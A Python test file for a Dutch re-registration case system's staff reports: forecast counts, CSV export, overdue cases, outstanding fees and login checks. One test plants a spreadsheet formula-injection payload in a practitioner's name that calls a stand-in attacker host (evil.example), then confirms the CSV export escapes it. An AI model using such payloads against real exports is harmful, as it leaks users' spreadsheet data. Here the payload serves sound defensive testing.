"""Reports for staff (issue 10, item 5): the forecast reproduces seed 000's annex (KWOT
re-registrations per month, 2026-2029: 164, 51, 340 and 103, with December 2026 the peak) from
a registration set built from it; open cases, cycle times, cases past due and money
outstanding from cases walked offline; the page (with its server-drawn chart) and the CSV of
the command line. A database of its own, so every count is exact."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from typing import Any

from dateutil.relativedelta import relativedelta

from domain.states import CaseState, Role
from models.case import get_case
from models.db import read_session, session_scope
from models.practitioner import Practitioner
from service import reports
from service.actions import open_case
from service.actors import Actor
from service.imports import import_registrations
from tests.conftest import ASSOCIATION, TODAY, Mailbox
from tests.factories import request
from tests.replay import run_case
from tests.test_step_plan import TO_PAYMENT, walk
from tests.test_way_in import staff_session

# Seed 000, Bijlage I: "Aantal herregistraties per jaar per maand" (KWOT).
ANNEX = {
    2026: [14, 7, 3, 0, 4, 4, 7, 4, 2, 10, 25, 84],
    2027: [15, 4, 5, 7, 5, 2, 1, 1, 2, 3, 4, 2],
    2028: [16, 28, 10, 22, 23, 40, 32, 52, 23, 47, 24, 23],
    2029: [6, 14, 19, 8, 5, 4, 8, 12, 8, 11, 8, 0],
}


def annex_export() -> str:
    """One KWOT registration per re-registration in the annex, its period (R17: registered in
    2020-2022, six years) ending in that month."""
    lines = ["kp_nummer;naam;email;lid;specialisatie;periode_start;periode_eind"]
    kp = 50000000
    for year, counts in ANNEX.items():
        for month, count in enumerate(counts, start=1):
            for i in range(count):
                end = date(year, month, 1 + i % 28)
                kp += 1
                lines.append(f"{kp};Orthopedisch Technoloog {kp};ot{kp}@example.org;nee;KWOT;"
                             f"{end - relativedelta(years=6) + timedelta(days=1)};{end}")
    return "\n".join(lines) + "\n"


def test_the_forecast_reproduces_the_annex_of_seed_000(own_database: Mailbox) -> None:
    report = import_registrations(annex_export(), actor=Actor(Role.OPERATOR, "Test"),
                                  source="bijlage-I.csv")
    assert not report.rejected and report.registrations_created == 164 + 51 + 340 + 103
    with read_session() as session:
        months = reports.forecast(session, date(2026, 1, 1), 48)
    assert [m.total for m in months] == [n for year in ANNEX for n in ANNEX[year]]
    yearly = {year: sum(m.total for m in months if m.month.year == year) for year in ANNEX}
    assert yearly == {2026: 164, 2027: 51, 2028: 340, 2029: 103}
    peak = max(months, key=lambda m: m.total)
    assert (peak.month, peak.total, peak.label) == (date(2026, 12, 1), 84, "dec 2026")
    assert all(set(m.by_register) <= {"KWOT"} for m in months)
    chart = reports.forecast_chart(months)
    assert chart.count("<rect") == 48 and "hoogste aantal 84" in chart
    assert "<title>dec 2026: 84</title>" in chart


def test_the_command_line_writes_the_forecast_as_csv(own_database: Mailbox) -> None:
    from typer.testing import CliRunner

    from cli.main import app

    import_registrations(annex_export(), actor=Actor(Role.OPERATOR, "Test"), source="x.csv")
    done = CliRunner().invoke(app, ["report", "prognose", "--csv", "--van", "2026-01",
                                    "--maanden", "48"])
    assert done.exit_code == 0, done.output
    rows = list(csv.reader(io.StringIO(done.output), delimiter=";"))
    assert rows[0] == ["maand", "totaal", "KWOT"]
    assert rows[12] == ["dec 2026", "84", "84"] and len(rows) == 49
    refused = CliRunner().invoke(app, ["report", "--csv"])
    assert refused.exit_code == 2 and "één rapport" in refused.output


async def test_open_cases_cycle_times_overdue_and_outstanding(own_database: Mailbox) -> None:
    waiting = await open_case(request(TODAY - timedelta(days=20)), actor=ASSOCIATION)
    assert await run_case(waiting.case_id) == "association-decision"
    paying = await open_case(request(TODAY - timedelta(days=30)), actor=ASSOCIATION)
    assert await walk(paying.number, paying.case_id, TO_PAYMENT) == "payment"
    late_day = TODAY + timedelta(days=60)  # past the association's 42 days
    with read_session() as session:
        opened = reports.open_cases(session)
        cycle = {row.action: row for row in reports.cycle_times(session)}
        late = reports.overdue(session, late_day)
        money = reports.outstanding(session)
    assert {(row.state, row.count) for row in opened} == {
        (CaseState.ASSOCIATION_CHECK, 1), (CaseState.AWAITING_PAYMENT, 1)}
    assert set(cycle) == {"association_decision", "portfolio_reopened", "submit"}
    assert cycle["submit"].count == 1 and cycle["submit"].median_days >= 0
    assert [row.number for row in late] == [waiting.number, paying.number]
    assert late[0].days_late == (late_day - late[0].due_on).days
    assert [(row.kind.value, row.count) for row in money] == [("reregistration", 1)]

    with staff_session("association_staff") as staff:
        page = staff.get("/rapportage")
    assert page.status_code == 200
    text = " ".join(page.text.split())
    assert f"<td>{CaseState.ASSOCIATION_CHECK.label}</td><td>KOT</td><td>1</td>" in text
    assert "Geen registraties die in deze 36 maanden aflopen" in text  # both lapsed (R4)
    assert "<td>Herregistratie (KP)</td><td>1</td><td>€ 84,00</td>" in text
    assert "herregistratie report" not in text  # the office downloads, no command line
    with session_scope() as session:  # a name that a spreadsheet would run as a formula
        case = get_case(session=session, case_id=waiting.case_id)
        case.due_on = TODAY - timedelta(days=2)
        practitioner = session.get(Practitioner, case.practitioner_id)
        assert practitioner is not None
        practitioner.name = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
        session.add_all([case, practitioner])
    with staff_session("association_staff") as staff:
        download = staff.get("/rapportage/te-laat.csv")
        assert staff.get("/rapportage/bestaat-niet.csv").status_code == 404
        assert staff.get("/rapportage", params={"van": "9999-12"}).status_code == 200
    assert download.headers["content-type"] == "text/csv; charset=utf-8"
    assert download.text.startswith("\ufeffaanvraag;oefentherapeut;")
    assert "'=HYPERLINK" in download.text and ";=HYPERLINK" not in download.text


def test_the_report_page_needs_a_staff_login(offline_client: Any) -> None:
    response = offline_client.get("/rapportage", follow_redirects=False)
    assert response.status_code == 303 and "/inloggen" in response.headers["location"]
